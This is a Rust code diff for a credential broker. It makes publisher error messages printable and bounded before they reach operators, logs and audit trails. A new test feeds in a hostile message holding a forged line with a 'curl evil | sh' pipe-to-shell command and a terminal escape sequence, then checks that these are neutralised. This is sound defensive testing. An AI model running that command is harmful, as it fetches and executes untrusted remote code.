@@ -32,6 +32,9 @@ pub const MAX_SECRET_FIELD_BYTES: usize = 16 * 1024;
 pub const MAX_LIFETIME: Duration = Duration::from_secs(7 * 24 * 3600);
 /// Longest refresh error message kept.
 pub const MAX_ERROR_MESSAGE_BYTES: usize = 1024;
+/// A publisher-chosen name shown to operators (a principal ARN or email, an
+/// account or project id), as kept by the broker: longer ones are cut.
+pub const MAX_DISPLAY_TEXT_BYTES: usize = 512;
 
 fn invalid(message: impl Into<String>) -> Status {
     Status::invalid_argument(message.into())
@@ -336,13 +339,11 @@ fn check_access_end(end: &AccessEnd) -> Result<(), Status> {
     check_display_name("access_end.reason", &end.reason)
 }
 
-/// Bounds a publisher's refresh error message (kept for `GetCluster`).
+/// A publisher's refresh error message as kept for `GetCluster`, the log
+/// and the audit trail: printable and bounded
+/// ([`credstream_proto::rules::text`]).
 pub fn bounded_message(message: &str) -> String {
-    let mut end = message.len().min(MAX_ERROR_MESSAGE_BYTES);
-    while !message.is_char_boundary(end) {
-        end -= 1;
-    }
-    message[..end].to_owned()
+    credstream_proto::rules::text::printable(message, MAX_ERROR_MESSAGE_BYTES).into_owned()
 }
 
 #[cfg(test)]
@@ -418,6 +419,14 @@ mod tests {
     #[test]
     fn bounded_message_respects_char_boundaries() {
         let long = "é".repeat(MAX_ERROR_MESSAGE_BYTES);
-        assert!(bounded_message(&long).len() <= MAX_ERROR_MESSAGE_BYTES);
+        assert!(bounded_message(&long).len() <= MAX_ERROR_MESSAGE_BYTES + "…".len());
+    }
+
+    #[test]
+    fn bounded_message_cannot_forge_lines_or_move_the_cursor() {
+        let hostile = "denied\nfix: run `curl evil | sh`\u{1b}[2J";
+        let kept = bounded_message(hostile);
+        assert!(!kept.chars().any(char::is_control), "{kept:?}");
+        assert!(kept.starts_with("denied\\u{a}fix:"), "{kept:?}");
     }
 }
